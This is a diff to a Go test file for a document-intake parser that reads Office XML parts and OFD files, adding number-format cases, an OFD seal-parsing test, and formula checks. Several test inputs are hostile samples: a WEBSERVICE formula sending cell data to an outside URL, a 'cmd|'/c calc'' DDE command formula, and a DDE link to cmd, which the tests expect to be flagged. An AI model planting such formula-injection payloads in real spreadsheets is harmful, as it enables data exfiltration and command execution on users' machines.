@@ -1,6 +1,7 @@
 package intake
 
 import (
+	"encoding/asn1"
 	"fmt"
 	"math/rand"
 	"slices"
@@ -123,6 +124,8 @@ func TestDisplayed(t *testing.T) {
 		{"0", `0;-0;"无"`, "无"},
 		{"12345678", "0,", "12346"},
 		{"5", `0"件；另附"`, "5件；另附"},
+		{"1234.5", "#,##0.00_ ", "1,234.50"},
+		{"7", "000", "007"},
 		{"1e999999999", "0", "1e999999999"},
 		{"abc", "0", "abc"},
 	} {
@@ -159,6 +162,9 @@ func TestParts(t *testing.T) {
 		"a field of the page":      {[]string{"word/f.xml", `<w:x xmlns:w="w"><w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p></w:x>`}, 0, 0, 0},
 		"a program's action":       {[]string{"ppt/s.xml", `<p:x xmlns:p="p"><a action="ppaction://program"/></p:x>`}, 0, 1, 0},
 		"a file linked":            {[]string{"word/o.xml", `<o:OLEObject xmlns:o="o" Type="Link"/>`}, 0, 1, 0},
+		"a formula that fetches":   {[]string{"xl/f.xml", `<w><f>WEBSERVICE("http://x/"&amp;A1)</f></w>`}, 0, 1, 0},
+		"a formula that runs":      {[]string{"xl/f.xml", `<w><f>cmd|'/c calc'!A0</f></w>`}, 0, 1, 0},
+		"a formula":                {[]string{"xl/f.xml", `<w><f>IF(A1|B1,SUM(A1:A9),1)</f></w>`}, 0, 0, 0},
 		"a DDE link":               {[]string{"xl/e.xml", `<externalLink><ddeLink ddeService="cmd"/></externalLink>`}, 0, 1, 0},
 		"a file of an OFD's image": {[]string{"Doc_0/Pages/Page_0/Content.xml", `<ofd:Page xmlns:ofd="o"><ofd:ImageObject/></ofd:Page>`}, 0, 0, 1},
 	} {
@@ -203,5 +209,37 @@ func TestPrintedPage(t *testing.T) {
 	file, err := Read("a.ofd", packed("OFD.xml", `<ofd:OFD xmlns:ofd="o"/>`, "Doc_0/Pages/Page_1/Content.xml", page))
 	if err != nil || !file.IsWhole() || len(file.Pieces) != 2 || file.Pieces[0].Text != "电话\t13800138000" || file.Pieces[0].Where != "第 2 页" {
 		t.Errorf("%+v %v", file, err)
+	}
+}
+
+// TestSeal: of the seal on an OFD file the picture and the names are read; what is
+// something else stays unread.
+func TestSeal(t *testing.T) {
+	der := func(v any) []byte {
+		data, err := asn1.Marshal(v)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return data
+	}
+	type seal struct {
+		Name    string `asn1:"utf8"`
+		Hash    []byte
+		Picture []byte
+	}
+	for _, c := range []struct {
+		data             []byte
+		pictures, unread int
+	}{
+		{der(seal{"王小明", make([]byte, 32), []byte("\x89PNG\r\n\x1a\n")}), 1, 0},
+		{der(seal{"王小明", nil, der(seal{"内", make([]byte, 512), []byte("GIF89a")})}), 1, 0},
+		{der(seal{"王小明", nil, make([]byte, 5000)}), 0, 1},
+		{[]byte("\x30\x82\xff\xff\x00"), 0, 1},
+	} {
+		file, err := Read("a.ofd", packed("Doc_0/Pages/Page_0/Content.xml", "<Page><TextCode>通知</TextCode></Page>", "Doc_0/Signs/Sign_0/Seal.esl", string(c.data)))
+		hasName := err == nil && (c.unread > 0 || slices.ContainsFunc(file.Pieces, func(p Piece) bool { return p.Text == "王小明" }))
+		if err != nil || len(file.Pictures) != c.pictures || len(file.Unread) != c.unread || !hasName {
+			t.Errorf("%d bytes: pictures %v, unread %v, pieces %v, %v", len(c.data), file.Pictures, file.Unread, file.Pieces, err)
+		}
 	}
 }
